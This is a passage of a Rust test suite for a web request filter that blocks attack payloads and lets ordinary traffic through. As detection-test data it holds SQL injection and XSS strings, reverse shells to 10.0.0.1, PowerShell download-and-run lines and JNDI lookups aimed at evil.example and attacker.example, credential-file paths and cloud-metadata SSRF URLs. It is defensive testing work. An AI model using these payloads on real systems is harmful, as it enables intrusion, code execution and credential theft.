                continue;
            }
            let mut found = vec![0; filter.prefilter.set_words()];
            filter.prefilter.scan(&text, &mut found);
            assert!(
                filter.prefilter.allows(index, &found),
                "{} matches {sample:?} but its literal gate skips it",
                rule.info.id
            );
            let mut candidates = vec![0; filter.selection.words()];
            filter.selection.passing(&found, &mut candidates);
            for (candidate, on_chain) in candidates
                .iter_mut()
                .zip(filter.selection.chain(rule.chain))
            {
                *candidate &= on_chain;
            }
            assert!(
                candidates[index / 64] & (1 << (index % 64)) != 0,
                "{} matches {sample:?} but the rule selection leaves it out",
                rule.info.id
            );
        }
    }
}

/// Times `Filter::inspect_body` on a plain-text body of `size` bytes made of
/// attack fragments that pass most literal gates.
fn time_body(filter: &Filter, size: usize) -> std::time::Duration {
    let unit = "select a from b or 1=1 <img src=x> ${env:x} ../ cat /bin/ eval($x) 'x' ";
    let body: String = unit
        .repeat(size / unit.len() + 1)
        .chars()
        .take(size)
        .collect();
    let headers = with_body("POST", "text/plain", &body);
    let started = std::time::Instant::now();
    let mut assessment = Assessment::default();
    filter.inspect_body(&mut assessment, &headers, body.as_bytes());
    started.elapsed()
}

#[test]
fn filter_scales_linearly_to_one_mib() {
    let filter = filter_from(r#"{"filter": {"paranoia_level": 4}}"#);
    // The minimum of several runs drops runs slowed by tests running in
    // parallel.
    let small = (0..5)
        .map(|_| time_body(&filter, 256 * 1024))
        .min()
        .unwrap_or_default();
    let large = (0..5)
        .map(|_| time_body(&filter, 1024 * 1024))
        .min()
        .unwrap_or_default();
    println!("1 MiB took {large:?}, 256 KiB took {small:?}");
    // Linear time gives a ratio near 4, quadratic time one near 16.
    let ratio = large.as_secs_f64() / small.as_secs_f64().max(1e-9);
    assert!(
        ratio < 8.0,
        "1 MiB took {large:?}, 256 KiB took {small:?}, ratio {ratio:.2}"
    );
}

const SIGNED_JWT: &str = "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhbGljZSIsImV4cCI6NDEwMjQ0NDgwMH0.qOWkkWcwZ31q1AErnocqJJuf3RUL606xoXQ2Fpd_scKlqUTGi2k_caQoom3Bc0YmtKdBryHcdmK9ZJH9raX5QSUld";

fn with_header(name: &str, value: &str) -> Vec<(String, Vec<u8>)> {
    let mut headers = request("/api/items");
    headers.push((name.to_string(), value.as_bytes().to_vec()));
    headers
}

#[test]
fn bearer_tokens_are_not_inspected() {
    let bearer = with_header("authorization", &format!("Bearer {SIGNED_JWT}"));
    assert!(header_targets(&bearer)
        .iter()
        .any(|target| target.kind == TargetKind::HeaderValue
            && target.name == "authorization"
            && is_opaque_credential(target)));
    assert!(!blocked(&bearer, ""));
    let cookie = with_header("cookie", &format!("id_token={SIGNED_JWT}"));
    assert!(!blocked(&cookie, ""));
}

#[test]
fn credentials_with_attack_characters_are_inspected() {
    for value in [
        "Bearer ' OR 1=1--",
        "Bearer ${jndi:ldap://attacker.example/a}",
        "Bearer ../../../../etc/passwd",
        "Bearer <script>alert(1)</script>",
    ] {
        let headers = with_header("authorization", value);
        let targets = header_targets(&headers);
        assert!(
            targets.iter().all(|target| !is_opaque_credential(target)),
            "{value}"
        );
        assert!(blocked(&headers, ""), "{value}");
    }
}

#[test]
fn basic_credentials_and_short_tokens_are_inspected() {
    let basic = with_header("authorization", "Basic YWRtaW4nIC0tOng=");
    assert!(header_targets(&basic)
        .iter()
        .all(|target| !is_opaque_credential(target)));
    let short = with_header("authorization", "Bearer abc");
    assert!(header_targets(&short)
        .iter()
        .all(|target| !is_opaque_credential(target)));
    assert!(!is_compact_jwt(b"eyJava.lang.Runtime"));
    assert!(!is_compact_jwt(b"eyJhbGciOiJub25lIn0.eyJzdWIiOiJhIn0."));
    assert!(is_compact_jwt(SIGNED_JWT.as_bytes()));
}

fn with_authority(authority: &str, path: &str) -> Vec<(String, Vec<u8>)> {
    let mut headers = request(path);
    headers[2].1 = authority.as_bytes().to_vec();
    headers
}

#[test]
fn numeric_host_scores_unless_loopback() {
    let filter = filter();
    let rules = |authority: &str| -> Vec<&'static str> {
        assess(&filter, &with_authority(authority, "/"), "")
            .detections
            .iter()
            .map(|detection| detection.rule.id)
            .collect()
    };
    assert_eq!(rules("203.0.113.5"), vec!["protocol-host-is-ip"]);
    assert_eq!(rules("[2001:db8::1]:8443"), vec!["protocol-host-is-ip"]);
    assert!(rules("127.0.0.1:8080").is_empty());
    assert!(rules("[::1]").is_empty());
    assert!(!blocked(
        &with_authority("127.0.0.1:8080", "/search?q=select%20from%20the%20menu"),
        ""
    ));
}

#[test]
fn cookie_named_like_a_command_passes() {
    let headers = with_header("cookie", "id=5; pwd=x");
    assert!(!blocked(&headers, ""));
}

#[test]
fn prose_and_everyday_values_pass() {
    assert_all_pass(
        "prose",
        &[
            "Shoes, bags & more",
            "Books, music & more > see all",
            "Host; writer; late night legend.",
            "3 or 4 person tent",
            "4 and 5 year olds",
            "ctl00$MainContent$txtName",
            "https://cdn.example.com/images/main.jpg?w=800&h=600",
            "https://example.com/~jane/index.php?page=about",
            "<p style=\"text-align: center;\">Centered</p>",
            "<p><img src=\"https://cdn.example.com/u/1/photo.jpg\" alt=\"photo\"></p>",
        ],
    );
    // Multi-line text with "Label:" lines, in a form and in JSON.
    let form = "comment=Name%3A+Jane+Doe%0APhone%3A+555-0100";
    assert!(
        !blocked(
            &with_body("POST", "application/x-www-form-urlencoded", form),
            form
        ),
        "{form}"
    );
    let json = r#"{"body":"Hello,\nOrder number: 88812\nReason: wrong size"}"#;
    assert!(
        !blocked(&with_body("POST", "application/json", json), json),
        "{json}"
    );
    let headers = [
        ("x-requested-with", "XMLHttpRequest"),
        (
            "authorization",
            "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/iam/aws4_request, SignedHeaders=content-type;host;x-amz-date, Signature=5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400e06b5924a6f2b5d7",
        ),
    ];
    for (name, value) in headers {
        let mut request = request("/api/items");
        request.push((name.to_string(), value.as_bytes().to_vec()));
        let assessment = assess(&filter(), &request, "");
        assert_eq!(assessment.detections, vec![], "{name}: {value}");
    }
}

#[test]
fn blind_probes_and_spellings_are_blocked() {
    assert_all_blocked(
        "probes",
        &[
            "; sleep 10",
            "|sleep 5",
            "; nslookup evil.example",
            ";dig evil.example",
            "; host evil.example",
            "x;who",
            "/etc//passwd",
            "/etc/./shadow",
            "\r\nSet-Cookie: session=attacker",
            "http://evil.example/shell.php?",
            "http://evil.example/shell.txt?cmd=id",
            "<p style=\"x:expression(alert(1))\">",
            "new XMLHttpRequest()",
        ],
    );
    assert!(blocked(&request("/login;jsessionid=ATTACKER123"), ""));
    let json = r#"{"a":[{"constructor":{"prototype":{"isAdmin":true}}}]}"#;
    assert!(blocked(&with_body("POST", "application/json", json), json));
    let multipart = "--XX\r\nContent-Disposition: form-data; name=\"q\"; filename=\"\"\r\n\r\n1' UNION SELECT password FROM users--\r\n--XX--\r\n";
    assert!(blocked(
        &with_body("POST", "multipart/form-data; boundary=XX", multipart),
        multipart
    ));
}

#[test]
fn gated_alternatives_are_reachable() {
    // Alternatives whose literals were missing from their rule's gate list.
    assert_all_blocked(
        "gate",
        &[
            "x & Get-ChildItem -Path C:\\Users",
            "x; New-Object Net.WebClient",
            "../../home/app/.npmrc",
            "/home/app/.pgpass",
        ],
    );
}

#[test]
fn windows_separators_and_hex_objects_are_blocked() {
    assert_all_blocked(
        "windows",
        &[
            "x & reg query HKLM\\SOFTWARE",
            "x & start calc",
            "x | dir c:\\",
            "x && ver",
            "aced0005737200116a6176612e7574696c2e486173684d6170",
        ],
    );
    assert!(blocked(
        &request("/s?template=//evil.example/shell.txt"),
        ""
    ));
    assert_all_pass(
        "windows lookalikes",
        &[
            "ready, set & start the engine",
            "version 2 & ver 3",
            "dir listing",
        ],
    );
}

fn rule_ids(path: &str) -> Vec<&'static str> {
    filter()
        .inspect_headers(&request(path))
        .detections
        .iter()
        .map(|detection| detection.rule.id)
        .collect()
}

#[test]
fn parenthesized_php_call_is_found() {
    let paths = [
        "/x?a=(system)('id')",
        "/x?a=(system)%20%20%09('id')",
        "/x?a=(%20system%20)(%22id%22)",
        "/x?a=(/**/system/**/)('id')",
    ];
    for path in paths {
        assert!(
            rule_ids(path).contains(&"php-parenthesized-call"),
            "{path}: {:?}",
            rule_ids(path)
        );
    }
    let agent =
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0";
    let mut headers = request("/");
    headers[3].1 = agent.as_bytes().to_vec();
    assert!(filter().inspect_headers(&headers).detections.is_empty());
}

#[test]
fn shell_evasions_are_decoded() {
    let paths = [
        // ANSI-C quoting, octal and hex.
        "/run?cmd=;$'\\143\\141\\164'%20/etc/passwd",
        "/run?cmd=;$'\\x63\\x61\\x74'%20/etc/passwd",
        // Options that make ssh, git and tar run a command.
        "/run?host=-oProxyCommand=%22sh%20-c%20id%22",
        "/run?repo=--upload-pack=touch%20/tmp/x",
        "/run?f=--to-command=sh",
        "/run?f=--checkpoint-action=exec=sh%20x.sh",
    ];
    for path in paths {
        assert!(blocked(&request(path), ""), "{path}");
    }
}

#[test]
fn enclosed_alphanumerics_in_hosts_are_folded() {
    let paths = [
        "/fetch?url=http://%E2%93%9B%E2%93%9E%E2%93%92%E2%93%90%E2%93%9B%E2%93%97%E2%93%9E%E2%93%A2%E2%93%A3/admin",
        "/fetch?url=http://169%E3%80%82254%E3%80%82169%E3%80%82254/latest/meta-data/",
        "/fetch?url=http://%E2%91%A0%E2%91%A5%E2%91%A8.254.169.254/",
    ];
    for path in paths {
        assert!(blocked(&request(path), ""), "{path}");
    }
}

fn form_post(body: &str) -> bool {
    blocked(
        &with_body("POST", "application/x-www-form-urlencoded", body),
        body,
    )
}

#[test]
fn quoted_phrases_before_dashes_pass() {
    assert!(!form_post("comment=she+said+%22hi%22+--+then+left"));
    assert!(!form_post("comment=the+%27new%27+--+and+better+--+plan"));
    assert!(form_post("user=admin%27+--+&pass=x"));
    assert!(form_post("user=admin%22+--+&pass=x"));
    assert!(form_post("user=x%27+or+%27a%27%3D%27a%27+--+"));
}

#[test]
fn arithmetic_is_not_sql() {
    assert!(!blocked(&request("/calc?expr=%282%2B3%29*4%2F5-1"), ""));
    assert!(!blocked(&request("/calc?expr=-1.5*%283%2C2%29"), ""));
    assert!(blocked(&request("/item?id=1%20or%201%3D1"), ""));
    assert!(blocked(&request("/item?id=1)%20or%20(1%3D1"), ""));
}

#[test]
fn method_override_on_a_post_form_passes() {
    assert!(!form_post("_method=patch&title=Hello"));
    assert!(form_post("_method=TRACE&title=Hello"));
    assert!(blocked(&request("/items/4?_method=DELETE"), ""));

    let mut post = with_body("POST", "application/json", "{}");
    post.push(("x-http-method-override".to_string(), b"PATCH".to_vec()));
    assert!(!blocked(&post, "{}"));
    let mut get = request("/items/4");
    get.push(("x-http-method-override".to_string(), b"PATCH".to_vec()));
    assert!(blocked(&get, ""));
    let mut connect = with_body("POST", "application/json", "{}");
    connect.push(("x-http-method".to_string(), b"CONNECT".to_vec()));
    assert!(blocked(&connect, "{}"));
}

#[test]
fn markdown_inline_code_is_not_sql() {
    let body =
        r#"{"content":"In Vue you write `{{ message }}` and in Angular `{{ user?.name }}`."}"#;
    assert!(!blocked(&with_body("POST", "application/json", body), body));
    let body = r#"{"content":"Use the regex `^(?:[a-z0-9]+)@example\\.com$` to validate."}"#;
    assert!(!blocked(&with_body("POST", "application/json", body), body));
    // The same shapes after a quote that ends an SQL string still count.
    assert!(blocked(&request("/item?id=1%27%20and%20x%20in%20(1)"), ""));
    assert!(blocked(&request("/item?id=%22%60%20*%2012344"), ""));
    assert!(blocked(&request("/item?id=1%27%5E(select%201)%5E%27"), ""));
    assert!(blocked(
        &request("/login?user=x%27%20or%20%27%27%3D%27"),
        ""
    ));
}

#[test]
fn markdown_code_fences_are_not_substitutions() {
    let body = r#"{"content":"Run this:\n```bash\nfor f in *.log; do gzip \"$f\"; done\n```\nthen check."}"#;
    assert!(!blocked(&with_body("POST", "application/json", body), body));
    let body = r#"{"content":"```sh\ncurl -sSL https://get.example.com | less\n```"}"#;
    assert!(!blocked(&with_body("POST", "application/json", body), body));
    assert!(blocked(&request("/run?x=%60cat%20/etc/passwd%60"), ""));
    assert!(blocked(&request("/run?x=a%60%60%60id%60"), ""));
}

fn detected_ids(headers: &[(String, Vec<u8>)], body: &str) -> Vec<&'static str> {
    assess(&filter(), headers, body)
        .detections
        .iter()
        .map(|detection| detection.rule.id)
        .collect()
}

/// Checks that `rule` finds `attack` in a query string and does not find
/// `benign`, a value of the same shape that ordinary traffic sends.
fn check_query_rule(rule: &str, attack: &str, benign: &str) {
    assert!(
        rule_ids(&format!("/item?{attack}")).contains(&rule),
        "{rule} misses {attack:?}"
    );
    assert!(
        !rule_ids(&format!("/item?{benign}")).contains(&rule),
        "{rule} reports {benign:?}"
    );
}

#[test]
fn unclosed_sql_function_call() {
    check_query_rule(
        "sqli-unclosed-function-call",
        "pay=lower%28",
        "q=lower+prices",
    );
    check_query_rule(
        "sqli-unclosed-function-call",
        "x=RAND%28",
        "q=rand%28%29+in+excel",
    );
    check_query_rule(
        "sqli-unclosed-function-call",
        "x=if%5C%28",
        "q=what+if+%28maybe%29",
    );
    check_query_rule(
        "sqli-unclosed-function-call",
        "CONCAT%28",
        "q=concat+strings",
    );
}

#[test]
fn sql_operator_alone() {
    check_query_rule("sqli-operator-only-name", "%7C%7C", "q=%7C%7C");
    check_query_rule("sqli-operator-only-name", "XOR", "xor_key=1");
    check_query_rule("sqli-operator-only-name", "IS+NOT+NULL", "is_null=1");
    check_query_rule("sqli-operator-only-name", "%3E%3D", "sort=price");
    check_query_rule("sqli-operator-only-value", "pay=%3C%3D%3E", "op=%3E%3D");
    check_query_rule("sqli-operator-only-value", "x=LIKE+NULL", "q=like+new");
}

/// Words and symbols that SQL uses as operators are ordinary values and
/// names on their own: a reaction, a pager button, a league division.
#[test]
fn operator_words_alone_pass() {
    for query in [
        "reaction=like",
        "q=rlike",
        "nav=%3E%3E",
        "nav=%3C%3C",
        "div=2",
        "regexp=a.%2A",
        "like=1",
    ] {
        assert!(!blocked(&request(&format!("/item?{query}")), ""), "{query}");
    }
}

#[test]
fn shell_tilde_and_history_expansion() {
    check_query_rule(
        "cmdi-tilde-or-history-expansion",
        "x=%7E%2B5",
        "x=%7E5+minutes",
    );
    check_query_rule("cmdi-tilde-or-history-expansion", "x=%7E-", "x=%7E");
    check_query_rule("cmdi-tilde-or-history-expansion", "x=!-1!-2", "x=!!");
}

#[test]
fn command_line_in_user_agent() {
    for (agent, attack) in [
        ("ansible-playbook site.yml", true),
        ("visudo", true),
        ("perl -e print", true),
        ("curl/8.5.0", false),
        ("ansible-httpget", false),
        ("Ruby", false),
        ("node", false),
        (
            "Links (2.3pre1; Linux 2.6.38-8-generic x86_64; 170x48)",
            false,
        ),
        (
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
            false,
        ),
    ] {
        let mut headers = request("/");
        headers[3].1 = agent.as_bytes().to_vec();
        let found = detected_ids(&headers, "").contains(&"cmdi-command-line-header");
        assert_eq!(found, attack, "{agent:?}");
    }
}

#[test]
fn separator_then_command() {
    check_query_rule(
        "cmdi-separator-then-command",
        "x=%3B+ps+aux",
        "x=ps+I+love+you",
    );
    check_query_rule("cmdi-separator-then-command", "x=%7C+id", "x=%7C+identity");
    check_query_rule(
        "cmdi-separator-then-command",
        "x=%26%26+id",
        "x=cats%3B+dogs",
    );
}

#[test]
fn automation_tool_subcommand() {
    check_query_rule(
        "cmdi-automation-tool",
        "code=ansible-config+dump",
        "q=ansible+tutorial%3F",
    );
    check_query_rule(
        "cmdi-automation-tool",
        "x=%3Bchef-client+-t",
        "q=chef+recipes",
    );
}

#[test]
fn server_side_include() {
    check_query_rule(
        "ssi-directive",
        "x=%3C!--%23exec+cmd%3D%22id%22--%3E",
        "x=%3C!--+comment+--%3E",
    );
}

#[test]
fn comment_close_at_start() {
    check_query_rule("xss-comment-close", "x=--%3E", "x=A+--%3E+B");
    check_query_rule("xss-comment-close", "--%3E=1", "arrow=%E2%86%92");
}

#[test]
fn server_config_file_upload() {
    for (name, attack) in [
        (".htaccess", true),
        ("wp-config_php.txt", true),
        ("uploads/.user.ini", true),
        ("photo.jpg", false),
        ("htaccess-guide.pdf", false),
        ("settings.json", false),
    ] {
        let mut headers = request("/upload");
        headers.push(("x-filename".to_string(), name.as_bytes().to_vec()));
        let found = detected_ids(&headers, "").contains(&"upload-server-config-file-header");
        assert_eq!(found, attack, "{name:?}");
    }
    let body = "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\".htaccess\"\r\n\r\nx\r\n--b--\r\n";
    let headers = with_body("POST", "multipart/form-data; boundary=b", body);
    assert!(detected_ids(&headers, body).contains(&"upload-server-config-file"));
    let body = "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"notes.txt\"\r\n\r\nx\r\n--b--\r\n";
    let headers = with_body("POST", "multipart/form-data; boundary=b", body);
    assert!(!detected_ids(&headers, body).contains(&"upload-server-config-file"));
}

#[test]
fn glued_string_and_chained_condition() {
    let rule = "sqli-glued-string-or-chained-condition";
    check_query_rule(rule, "x=and+%275%27orig", "q=salt+and+%27pepper%27+mix");
    check_query_rule(rule, "x=%7C%7C%28c%3D%3D%3D", "q=a+%7C%7C+b");
    check_query_rule(
        rule,
        &format!("x={}", "%27.".repeat(10)),
        "q=%27a%27+%27b%27",
    );
}

#[test]
fn backtick_argument_name() {
    check_query_rule("sqli-backtick-name", "%60bla%60", "q=%60code%60");
}

#[test]
fn relative_binary_path() {
    check_query_rule(
        "cmdi-relative-binary-path",
        "a=bin/ansible",
        "path=bin/setup",
    );
    check_query_rule(
        "cmdi-relative-binary-path",
        "a=usr/bin/id",
        "a=bin/identity",
    );
}

#[test]
fn sqlite_dot_command() {
    check_query_rule(
        "cmdi-cli-dot-command",
        "x=%3B%0A.system+id",
        "q=version+1.2.shell",
    );
    check_query_rule("cmdi-cli-dot-command", "x=%3B.shell+id", "q=see+.shellrc");
    for query in ["selector=.read-more", "q=.tables", "class=.open"] {
        assert!(!blocked(&request(&format!("/item?{query}")), ""), "{query}");
    }
}

#[test]
fn doubly_encoded_entity() {
    check_query_rule(
        "xss-entity-obfuscation",
        "x=ja%26amp%3Btab%3Bvascript%3A",
        "x=tab%26amp%3Bcolon",
    );
    check_query_rule(
        "xss-entity-obfuscation",
        "x=javascript%26amp%3Bcolon%3Balert(1)",
        "x=%26amp%3Bnbsp%3B",
    );
}

#[test]
fn snake_case_call_probe() {
    check_query_rule(
        "php-snake-case-call-probe",
        "x=posix_getegid%28%29",
        "x=posix_getegid+manual",
    );
    check_query_rule(
        "php-snake-case-call-probe",
        "x=php_uname%28",
        "x=call+my_func%28%29+first",
    );
    // Searches in a programming manual often end with a call, as probes do.
    check_query_rule(
        "php-snake-case-call-probe",
        "x=get_current_user%28%29%3B",
        "q=array_key_exists%28%29",
    );
}

#[test]
fn leading_boolean_call() {
    check_query_rule(
        "sqli-leading-boolean-call",
        "x=or+sleep%285%29",
        "x=or+else+%28maybe%29",
    );
}

#[test]
fn number_comparison_value() {
    check_query_rule("sqli-literal-comparison", "a=1!%3D11", "q=1!%3D11+meaning");
    check_query_rule("sqli-literal-comparison", "a=1+xor+1", "q=xor+gate");
}

/// Searches that name a command, a statement or a system folder pass. The
/// same words in the shape of an injection are blocked.
#[test]
fn command_and_statement_searches_pass() {
    for query in [
        "q=cat+%26+dog+toys",
        "q=rm+-rf+meaning",
        "q=ls+-la+output+explained",
        "q=drop+table+tennis",
        "q=create+table+in+word",
        "q=insert+into+christmas+tree",
        "q=order+by+date",
        "q=windows+system32+folder",
    ] {
        assert!(
            !blocked(&request(&format!("/search?{query}")), ""),
            "{query}"
        );
    }
    for query in [
        "x=cat+%26+whoami",
        "x=cat%26id",
        "x=rm+-rf+%2F",
        "x=ls+-la",
        "x=tar+-czf+out.tgz+%2Fetc",
        "x=1%27%3B+drop+table+users--",
        "x=drop+table+users%3B",
        "x=ALTER+TABLE+%60users%60+ADD+x+INT",
        "x=1%3B+insert+into+users+values%281%29",
        "x=insert+into+users%28name%29+values%28%27a%27%29",
        "x=1+order+by+name",
        "x=c%3A%5Cwindows%5Csystem32%5Ccmd.exe",
    ] {
        assert!(blocked(&request(&format!("/item?{query}")), ""), "{query}");
    }
}

/// A newline ends a shell command as `;` does, so a command on the line
/// after a one-word value is an injection in any body format.
#[test]
fn newline_separated_command_is_blocked() {
    let form = |body: &str| with_body("POST", "application/x-www-form-urlencoded", body);
    for body in [
        "host=8.8.8.8%0Aid",
        "host=8.8.8.8%0D%0Acat+%2Fetc%2Fpasswd",
        "file=a.txt%0A%0Abash+-i+%3E%26+%2Fdev%2Ftcp%2F10.0.0.1%2F4444+0%3E%261",
    ] {
        assert!(
            detected_ids(&form(body), body).contains(&"cmdi-newline-command"),
            "{body}"
        );
        assert!(blocked(&form(body), body), "{body}");
    }
    let body = r#"{"host": "8.8.8.8\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}"#;
    assert!(blocked(&with_body("POST", "application/json", body), body));
    // A post whose shell lines follow prose or a code fence passes.
    for body in [
        "message=%60%60%60bash%0Aexport+PATH%3D%22%24HOME%2F.cargo%2Fbin%3A%24PATH%22%0A%60%60%60",
        "message=Try+this+first%3A%0Als+-la+%2Ftmp",
        "notes=Team%3A+Payments%0ASleep+8+hours",
    ] {
        assert!(!blocked(&form(body), body), "{body}");
    }
}

/// Generic session parameter names carry ids that the application issued
/// itself, such as Stripe's checkout `session_id`. Only the names of
/// frameworks that accept a session id from the URL count.
#[test]
fn generic_session_parameters_pass() {
    assert!(!blocked(
        &request("/checkout/success?session_id=cs_test_a1B2c3D4e5F6"),
        ""
    ));
    assert!(!blocked(&request("/chat?sessionId=8f14e45fceea167a"), ""));
    assert!(blocked(
        &request("/login?jsessionid=74B0CB414BD77D17B5680A6386EF1666"),
        ""
    ));
}

/// English words that are also function names pass before a parenthesis
/// that does not open an argument list.
#[test]
fn words_before_parentheses_pass() {
    for query in [
        "q=sleep+mask+%282+pack%29",
        "q=express+shipping+%282+days%29",
        "q=vanilla+extract+%284+oz%29",
        "q=Mail+%28application%29",
        "q=Link+%28The+Legend+of+Zelda%29",
    ] {
        assert!(
            !blocked(&request(&format!("/search?{query}")), ""),
            "{query}"
        );
    }
    for query in [
        "x=1+and+sleep%285%29",
        "x=system+%28%27id%27%29",
        "x=system%28id%29",
    ] {
        assert!(blocked(&request(&format!("/item?{query}")), ""), "{query}");
    }
}

#[test]
fn command_with_comment_or_cmdlet_is_blocked() {
    for query in [
        "host=x%3Bid+%23",
        "host=x+%7C+powershell+%22irm+evil.example%2Fa.ps1%7Ciex%22",
        "host=127.0.0.1+%7C+powershell+iwr+http%3A%2F%2Fevil.example%2Fa.ps1+%7C+iex",
        "host=x+%26+pwsh+whoami",
    ] {
        assert!(
            detected_ids(&request(&format!("/ping?{query}")), "").contains(&"cmdi-unix-command"),
            "{query}"
        );
    }
    assert!(!blocked(
        &request("/search?q=dogs%3B+cat+people+%23pets"),
        ""
    ));
}

#[test]
fn numeric_hosts_are_blocked() {
    for url in [
        "http%3A%2F%2F0251.254.169.254%2Flatest%2F",
        "http%3A%2F%2F025177524776%2Flatest%2Fmeta-data%2F",
        "http%3A%2F%2F0x00a9fea9fe%2F",
        "http%3A%2F%2F169.0xfe.43518%2F",
        "http%3A%2F%2F0%2Fadmin",
        "http%3A%2F%2F0x7f.1%2Fadmin",
        "http%3A%2F%2F017700000001%2Fadmin",
        "http%3A%5C%5C0251.254.169.254%5Clatest",
    ] {
        let query = format!("url={url}");
        assert!(
            detected_ids(&request(&format!("/fetch?{query}")), "").contains(&"ssrf-numeric-host"),
            "{query}"
        );
    }
    for query in [
        "url=https%3A%2F%2F007.example.com%2F",
        "url=https%3A%2F%2F0x.example.com%2Fdocs",
        "next=https%3A%2F%2Fexample.com%2F2024%2F05",
    ] {
        assert!(
            !detected_ids(&request(&format!("/fetch?{query}")), "").contains(&"ssrf-numeric-host"),
            "{query}"
        );
    }
}

#[test]
fn windows_paths_to_credentials_are_blocked() {
    for file in [
        "C%3A%5CUsers%5CAdministrator%5C.ssh%5Cid_rsa",
        "C%3A%5CUsers%5Capp%5C.aws%5Ccredentials",
        "C%3A%5Cinetpub%5Cwwwroot%5C.git%5Cconfig",
        "C%3A%5CWindows%5CPanther%5CUnattend.xml",
    ] {
        assert!(
            blocked(&request(&format!("/download?file={file}")), ""),
            "{file}"
        );
    }
}

/// Images sent as data URLs pass. Data URLs of text, of an application
/// type or with no type, the forms used to include code, are blocked.
#[test]
fn image_data_urls_pass() {
    let body = r#"{"avatar":"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="}"#;
    assert!(!blocked(&with_body("POST", "application/json", body), body));
    for value in [
        "data%3A%2F%2Ftext%2Fplain%3Bbase64%2CPD9waHAgc3lzdGVtKCRfR0VUWzBdKTsgPz4%3D",
        "data%3Atext%2Fplain%2C%3C%3Fphp+phpinfo%28%29%3F%3E",
        "data%3A%2CHello",
    ] {
        assert!(
            detected_ids(&request(&format!("/page?file={value}")), "")
                .contains(&"rfi-wrapper-scheme"),
            "{value}"
        );
    }
}

#[test]
fn split_javascript_uri_is_blocked() {
    for query in [
        "q=%3Ca+href%3D%22jav%26%23x09%3Bascript%3Aimport%28%27%2F%2Fevil.example%2Fx.js%27%29%22%3Eclick%3C%2Fa%3E",
        "next=jav%09ascript%3Aalert%281%29",
        "next=java%26Tab%3Bscr%26NewLine%3Bipt%3Aalert%28document.domain%29",
    ] {
        assert!(
            detected_ids(&request(&format!("/go?{query}")), "").contains(&"xss-javascript-uri-split"),
            "{query}"
        );
    }
    let body = r#"{"website":"jav\tascript:import('//evil.example/x.js')"}"#;
    assert!(blocked(&with_body("POST", "application/json", body), body));
    let body = "comment=Read+%22JavaScript%3A+The+Good+Parts%22%0Aand+then+tell+me";
    let form = with_body("POST", "application/x-www-form-urlencoded", body);
    assert!(!detected_ids(&form, body).contains(&"xss-javascript-uri-split"));
}

/// Returns the ids of the rules that `headers` and `body` trigger.
fn request_rule_ids(headers: &[(String, Vec<u8>)], body: &str) -> Vec<&'static str> {
    assess(&filter(), headers, body).rule_ids()
}

/// Returns the ids of the rules that `headers` and `body` trigger at
/// paranoia level 2.
fn level2_rule_ids(headers: &[(String, Vec<u8>)], body: &str) -> Vec<&'static str> {
    let level2 = filter_from(r#"{"filter": {"paranoia_level": 2}}"#);
    assess(&level2, headers, body).rule_ids()
}

#[test]
fn doubly_encoded_letters_are_found() {
    let id = "protocol-double-url-encoding";
    let level2_ids = |path: &str| level2_rule_ids(&request(path), "");
    for path in [
        "/?parm=%25%37%33%25%36%46",
        "/search?q=%2573elect",
        "/a%2565tc/passwd",
        "/?q=%252541",
    ] {
        assert!(level2_ids(path).contains(&id), "{path}");
    }
    for path in [
        "/?next=https%253A%252F%252Fexample.com%252Fa%2520b",
        "/?q=50%25%20off",
        "/?q=100%25",
        "/?q=%73earch",
        "/?q=50%25ABC",
    ] {
        assert!(!level2_ids(path).contains(&id), "{path}");
    }
    // The printf format `%4d` in a search reads as a double encoding, so
    // paranoia level 1 leaves the check out.
    let path = "/search?q=printf%28%22%254d%22%29";
    assert!(level2_ids(path).contains(&id));
    assert!(!request_rule_ids(&request(path), "").contains(&id));
}

#[test]
fn encoded_nul_in_header_is_found() {
    let mut headers = request("/");
    headers.push(("referer".to_string(), b"https://example.com/x%00".to_vec()));
    assert!(request_rule_ids(&headers, "").contains(&"protocol-nul-byte"));
    let mut ordinary = request("/");
    ordinary.push((
        "referer".to_string(),
        b"https://example.com/search?q=100%25%20cotton".to_vec(),
    ));
    assert!(request_rule_ids(&ordinary, "").is_empty());
}

#[test]
fn control_byte_in_cookie_name_is_found() {
    let mut headers = request("/");
    headers.push(("cookie".to_string(), b"hi%13=bye".to_vec()));
    assert!(request_rule_ids(&headers, "").contains(&"protocol-nul-byte"));
    let mut ordinary = request("/");
    ordinary.push(("cookie".to_string(), b"theme=dark; lang=en%2DUS".to_vec()));
    assert!(request_rule_ids(&ordinary, "").is_empty());
}

#[test]
fn content_type_parameter_syntax() {
    let id = "protocol-content-type-malformed";
    for content_type in [
        "text/plain; charset=\"UTF-8\"; garbage",
        "multipart/form-data; boundary=  test_data_123456",
        "application/json; charset",
    ] {
        let headers = with_body("POST", content_type, "");
        assert!(
            request_rule_ids(&headers, "").contains(&id),
            "{content_type}"
        );
    }
    for content_type in [
        "application/json; charset=utf-8",
        "application/json; charset=utf-8;",
        "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
        "text/plain;charset=\"utf-8\"",
        "application/json; charset = utf-8",
        "multipart/form-data; boundary=\"a;b\"",
    ] {
        let headers = with_body("POST", content_type, "");
        assert!(
            !request_rule_ids(&headers, "").contains(&id),
            "{content_type}"
        );
    }
}

#[test]
fn quoted_charset_read_whole() {
    // A `;` inside a quoted value does not end the parameter, so the charset
    // below is `utf-8;x`, which is not an allowed charset.
    let headers = with_body("POST", "text/plain; charset=\"utf-8;x\"", "");
    assert!(request_rule_ids(&headers, "").contains(&"protocol-charset-not-allowed"));
    let headers = with_body("POST", "text/plain; charset=\"utf-8\"", "");
    assert!(!request_rule_ids(&headers, "").contains(&"protocol-charset-not-allowed"));
}

#[test]
fn multipart_charset_field_is_checked() {
    let body = |charset: &str| {
        format!(
